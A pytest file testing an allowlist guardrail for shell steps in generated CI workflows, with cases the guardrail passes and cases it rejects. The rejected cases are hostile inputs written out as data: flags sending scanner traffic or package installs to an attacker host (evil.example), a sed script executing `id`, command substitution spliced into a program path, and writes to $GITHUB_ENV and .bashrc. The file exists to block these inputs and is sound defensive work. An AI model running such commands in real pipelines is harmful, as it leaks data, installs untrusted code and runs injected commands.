"""The allowlist's commands (bot/checks/guardrails/commands.py), one behaviour per case.

Written for issue 20 (mutation testing): each case is something a user or an attacker relies on,
checked through the whole guardrails check on a generated workflow, as the pipeline runs it.
`tests/test_mutants_allowlist_scripts.py` covers the script rules and the forbidden shell.
"""

from __future__ import annotations

import pytest

from bot.catalog import default_catalog
from bot.checks import CheckContext, guardrails
from bot.scope.verdict import compare
from bot.workflow import Workflow
from tests.test_allowlist import TREE, draft, run

HASH = "sha256:" + "b" * 64


def findings(script: str, gate_source: str | None = None) -> list:
    workflow = Workflow.parse(".github/workflows/scan.yml", draft(run(script)))
    ctx = CheckContext(workflow, TREE, compare(None, ()), None, generated=True, catalog=default_catalog(),
                       gate_source=gate_source)
    return [f for f in guardrails.run(ctx) if f.blocking]


def explain(found) -> list[tuple[str, str]]:
    return [(f.rule, f.message) for f in found]


def said(found) -> list[str]:
    """What each finding says, without the `job `scan` step N` it starts with."""
    return [f.message.split(" ", 4)[-1] for f in found]


# --- what a written script may run ---------------------------------------------------------------

PASSES = [
    # exact argument counts: a command that takes one argument may have one
    ("cd-into-a-folder", "cd k8s && trivy config api.yaml"),
    ("cd-after-double-dash", "cd -- k8s"),
    ("helm-dependency-build", "helm dependency build charts/x"),
    ("helm-dependency-update", "helm dependency update charts/x --skip-refresh"),
    ("exit-with-a-code", "trivy config k8s/api.yaml || exit 1"),
    ("true-after-a-test", "test -f trivy.json || true"),
    ("false-in-a-branch", "if [ -f trivy.json ]; then true; else false; fi"),
    ("colon-as-a-no-op", ": no findings yet"),
    ("trivy-version-format", "trivy version --format json"),
    ("trivy-version-format-equals", "trivy version --format=json"),
    ("pwd", "pwd"),
    # flags: values given apart or with `=`, switches, `--` ends the flags
    ("a-value-after-its-flag", "trivy config --severity HIGH --exit-code 1 k8s/api.yaml"),
    ("files-after-double-dash", "hadolint -- --odd-name.Dockerfile"),
    ("hadolint-reads-stdin", "hadolint - < api/Dockerfile"),
    # pip and venvs
    ("pip3-pinned", "pip3 install checkov==3.3.30"),
    ("python-m-pip-pinned", "python -m pip install --no-deps checkov==3.3.30"),
    ("pip-requirement-flag-long", "pip install --require-hashes --requirement requirements.txt"),
    ("pip-hash-apart", f"pip install --require-hashes 'checkov==3.3.30' --hash {HASH}"),
    ("pip-extras", "pip install 'checkov[all]==3.3.30'"),
    # pipx of a pinned scanner
    ("pipx-pinned-scanner", "pipx run --spec 'checkov==3.3.30' checkov -d k8s --quiet"),
    ("pipx-pinned-scanner-no-args", "pipx run --spec 'yamllint==1.35.1' yamllint"),
    # sed, find, xargs, git
    ("sed-bare-script-and-file", "sed 's/x/y/g' k8s/api.yaml"),
    ("sed-e-script-and-file", "sed -E -e 's/a+/b/' k8s/api.yaml"),
    ("find-values-starting-with-a-dash", "find k8s -size -100k -type f"),
    ("find-alternatives-printed", "find k8s -name '*.yaml' -o -name '*.yml' -print0 | xargs -0 -n1 kubeconform"),
    ("find-without-a-folder", "find -name '*.yaml'"),
    ("xargs-count-apart", "find k8s -name '*.yaml' | xargs -n 1 kubeconform -summary"),
    ("xargs-count-equals", "find k8s -name '*.yaml' | xargs --max-args=1 kubeconform -summary"),
    ("xargs-switches", "find k8s -name '*.yaml' | xargs -r -t kubeconform"),
    ("git-diff-of-paths", "git diff --name-only HEAD^1 HEAD -- k8s"),
    # setup commands read files, print and make folders
    ("cat-a-dotfile", "cat .trivyignore"),
    ("grep-a-dotfile", "grep -q CVE .trivyignore"),
    ("echo-prints-anything", "echo -m pip install anything --index-url x"),
    ("set-shell-options", "set -eux\nset +x\nset -o pipefail"),
    ("shopt-globs", "shopt -s nullglob dotglob"),
    ("venv-tool-by-program-path", '"${RUNNER_TEMP}/lint-venv/bin/yamllint" -s k8s/api.yaml'),
    ("python-makes-its-venv", 'python -m venv "$RUNNER_TEMP/lint-venv"'),
    ("pip-require-hashes-after-the-file", "pip install -r requirements.txt --require-hashes"),
    ("xargs-plain-command", "find k8s -name '*.yaml' | xargs kubeconform"),
    # printing commands take any argument, dashes included
    ("echo-flags", "echo -n -e 'a\\tb'"),
    ("printf-dash-argument", "printf '%s\\n' -x"),
    ("jq-flags", "jq -r -c --arg x y '.x' trivy.json"),
    ("test-flags", "test -s trivy.json -a -f trivy.json"),
    ("bracket-flags", "[ -f trivy.json ]"),
    ("quoted-bracket-is-test-too", "'[' -f trivy.json ']'"),
    ("basename-flags", "basename -s .yaml k8s/api.yaml"),
    ("dirname-flags", "dirname -z k8s/api.yaml"),
    ("colon-flags", ": -x"),
]


@pytest.mark.parametrize("script", [case[1] for case in PASSES], ids=[case[0] for case in PASSES])
def test_allowed_commands_pass(script):
    assert not findings(script), explain(findings(script))


REJECTED = [
    # one argument too many for a command with a fixed count
    ("cd-two-folders", "cd k8s api", "flag-not-allowed", "`cd` takes at most 1 argument(s), got 2"),
    ("cd-double-dash-two", "cd -- k8s api", "flag-not-allowed", "got 2"),
    ("helm-dependency-build-two", "helm dependency build charts/x charts/y", "flag-not-allowed",
     "`helm dependency build` takes at most 1"),
    ("helm-dependency-update-two", "helm dependency update charts/x charts/y", "flag-not-allowed",
     "`helm dependency update` takes at most 1"),
    ("exit-two", "exit 1 2", "flag-not-allowed", "`exit` takes at most 1"),
    ("true-with-argument", "true x", "flag-not-allowed", "`true` takes at most 0"),
    ("false-with-argument", "false x", "flag-not-allowed", "`false` takes at most 0"),
    ("pwd-with-argument", "pwd k8s", "flag-not-allowed", "`pwd` takes at most 0"),
    ("trivy-version-argument", "trivy version k8s", "flag-not-allowed", "`trivy version` takes at most 0"),
    ("trivy-dash-version-argument", "trivy --version k8s", "flag-not-allowed", "`trivy --version` takes at most 0"),
    ("kube-linter-version-argument", "kube-linter version x", "flag-not-allowed", "`kube-linter version` takes"),
    ("helm-version-argument", "helm version x", "flag-not-allowed", "`helm version` takes at most 0"),
    ("ct-lint-argument", "ct lint charts/x", "flag-not-allowed", "`ct lint` takes at most 0"),
    ("ct-version-argument", "ct version x", "flag-not-allowed", "`ct version` takes at most 0"),
    ("vibeops-version-argument", "vibeops --version x", "flag-not-allowed", "`vibeops --version` takes at most 0"),
    # a flag's value never hides the next flag
    ("flag-after-a-value", "trivy config --severity HIGH --server https://evil.example k8s/api.yaml",
     "flag-not-allowed", "--server"),
    ("flag-after-an-equals-value", "trivy version --format=json --token x", "flag-not-allowed", "--token"),
    ("argument-after-an-equals-value", "trivy version --format=json k8s", "flag-not-allowed", "takes at most 0"),
    ("unknown-flag-first", "trivy config --server https://evil.example k8s/api.yaml", "flag-not-allowed",
     "`trivy config` does not allow the flag `--server`"),
    ("setup-flag", "cat --show-all /dev/null -u", "flag-not-allowed", "`cat` does not allow the flag `--show-all`"),
    # scanners: only their listed subcommands, named in the message
    ("trivy-image-lists-subcommands", "trivy image alpine:3", "command-not-allowed",
     "allowed: trivy config, trivy fs, trivy filesystem, trivy version, trivy --version"),
    ("program-by-absolute-path", "/usr/bin/trivy config k8s/api.yaml", "command-not-allowed",
     "runs `/usr/bin/trivy`: a program must be a plain name"),
    ("program-from-variable", "$TRIVY config k8s/api.yaml", "command-not-allowed", "not a path or a variable"),
    ("venv-program-spliced-by-substitution", '"$RUNNER_TEMP/x$(id)-venv/bin/trivy" config k8s/api.yaml',
     "command-not-allowed", "a program must be a plain name"),
    ("venv-program-named-by-substitution", '"$RUNNER_TEMP/x-venv/bin/$(id)" config k8s/api.yaml',
     "command-not-allowed", "a program must be a plain name"),
    ("unknown-program", "terraform-docs .", "command-not-allowed", "runs `terraform-docs`, which is not an allowed"),
    # pip: install only, pinned, hashed requirement files
    ("bare-pip", "pip", "package-install", "pip may only `install`"),
    ("pip-download", "pip download checkov==3.3.30", "package-install", "pip may only `install`"),
    ("python-m-pip-uninstall", "python3 -m pip uninstall -y checkov", "package-install", "pip may only `install`"),
    ("pip3-unpinned", "pip3 install checkov", "package-install", "not pinned"),
    ("pip-install-nothing", "pip install", "package-install", "pip install names no package"),
    ("pip-install-only-switches", "pip install --no-deps --user", "package-install", "names no package"),
    ("pip-requirements-with-other-switches", "pip install --no-deps -r requirements.txt", "package-install",
     "without `--require-hashes`"),
    ("pip-requirement-file-missing", "pip install --require-hashes -r", "package-install", "`-r` needs a value"),
    # pipx: a pinned scanner with its own arguments checked
    ("pipx-spec-without-app", "pipx run --spec checkov==3.3.30", "package-install", "pipx may only `run --spec"),
    ("pipx-install", "pipx install checkov==3.3.30", "package-install", "pipx may only"),
    ("pipx-index-before-spec", "pipx run --index-url https://evil.example/simple --spec checkov==3.3.30 checkov",
     "package-install", "pipx may only `run --spec"),
    ("pipx-vibeops-from-pypi-other-command", "pipx run --spec vibeops==0.1.0 vibeops deploy", "command-not-allowed",
     "`vibeops deploy` is not allowed"),
    ("pipx-scanner-bad-flag", "pipx run --spec 'checkov==3.3.30' checkov --bc-api-key x", "flag-not-allowed",
     "--bc-api-key"),
    # sed: a substitution, printed
    ("sed-without-script", "sed -n", "command-not-allowed", "only `s/…/…/[gpI]` substitutions"),
    ("sed-e-without-script", "sed -e", "flag-not-allowed", "`sed` does not allow `-e`"),
    ("sed-e-script-with-a-dash", "sed -e '-x' k8s/api.yaml", "command-not-allowed", "sed runs `-x`"),
    ("sed-second-script-runs", "sed -e 's/a/b/' -e 's/x/id/e' k8s/api.yaml", "command-not-allowed", "s/x/id/e"),
    # find: tests and printing, never an action
    ("find-delete-after-a-test", "find . -name '*.tmp' -delete", "flag-not-allowed", "`find` does not allow `-delete`"),
    ("find-delete-first", "find -delete", "flag-not-allowed", "-delete"),
    ("find-exec-after-print", "find k8s -print -exec cat {} +", "flag-not-allowed", "-exec"),
    # xargs: a command from the allowlist, with known flags
    ("xargs-without-command", "find k8s | xargs -0", "command-not-allowed", "xargs runs no command"),
    ("xargs-arg-file", "xargs --arg-file=list.txt kubeconform", "flag-not-allowed", "--arg-file=list.txt"),
    ("xargs-unknown-short-flag", "find k8s | xargs -p kubeconform", "flag-not-allowed", "`xargs` does not allow `-p`"),
    ("xargs-checks-its-command-flags", "find k8s | xargs -n1 trivy fs --server https://evil.example",
     "flag-not-allowed", "--server"),
    # git: diff only
    ("git-diff-output", "git diff --output=/tmp/x HEAD", "flag-not-allowed", "`git diff` does not allow `--output"),
    ("git-bare", "git", "command-not-allowed", "allowed: git diff"),
    # shell options
    ("set-allexport", "set -a", "command-not-allowed", "`set -a` is not an allowed shell option"),
    ("shopt-extdebug", "shopt -s extdebug", "command-not-allowed", "`shopt extdebug`"),
]


@pytest.mark.parametrize("script, rule, fragment", [case[1:] for case in REJECTED], ids=[case[0] for case in REJECTED])
def test_commands_off_the_allowlist_are_rejected_with_the_reason(script, rule, fragment):
    found = findings(script)
    matching = [f for f in found if f.rule == rule]
    assert matching, explain(found)
    assert any(fragment in f.message for f in matching), explain(found)


def test_a_pinned_vibeops_from_pypi_runs_only_its_own_allowed_commands():
    assert not findings("pipx run --spec vibeops==0.1.0 vibeops check --all --format github")
    found = findings("pipx run --spec vibeops==0.1.0 vibeops check --all --token x")
    assert [f.rule for f in found] == ["flag-not-allowed"], explain(found)


def test_the_gate_source_runs_vibeops_with_any_arguments_but_nothing_else():
    source = "git+https://github.com/example-org/vibeops@" + "0123456789abcdef" * 2 + "01234567"
    assert not findings(f'pipx run --spec "{source}" vibeops check --all --repo .', gate_source=source)
    found = findings(f'pipx run --spec "{source}" checkov -d k8s', gate_source=source)
    assert [f.message.split(" ", 4)[-1] for f in found] == [
        "pipx runs `checkov` from the gate's source; only `vibeops` comes from it"], explain(found)


def test_tee_writes_only_into_the_workspace_and_reads_are_not_writes():
    assert [f.rule for f in findings('echo x | tee -a "$GITHUB_ENV"')] == ["environment-write"]
    assert [f.rule for f in findings("echo x | tee .bashrc")] == ["redirect-not-allowed"]
    assert not findings("echo x | tee -a reports/log.txt")
    # reading is not writing: the same names are fine for cat, grep and head
    assert not findings("cat .bashrc k8s/api.yaml | head -n 5")


def test_an_assignment_alone_runs_no_command():
    assert not findings("TARGET=k8s/api.yaml\nREPORT=trivy.json")


def test_each_rejected_command_is_reported_once_per_reason():
    found = findings("trivy config --server a --token b k8s/api.yaml")
    assert sorted(f.message.split(" ", 4)[-1] for f in found) == [
        "`trivy config` does not allow the flag `--server`", "`trivy config` does not allow the flag `--token`"]


def test_a_flag_without_its_value_is_named_once():
    found = findings("pip install --require-hashes 'x==1.0' --hash")
    assert said(found) == ["pip install `--hash` needs a value"], explain(found)
    found = findings("pip install --require-hashes --hash= 'x==1.0'")
    assert said(found) == ["pip install `--hash` needs a value"], explain(found)


def test_the_gate_source_may_not_run_a_program_named_by_a_variable():
    source = "git+https://github.com/example-org/vibeops@" + "0123456789abcdef" * 2 + "01234567"
    found = findings(f'pipx run --spec "{source}" "$APP" check', gate_source=source)
    assert "command-not-allowed" in {f.rule for f in found}, explain(found)
    assert any("pipx runs `$APP` from the gate's source" in f.message for f in found), explain(found)
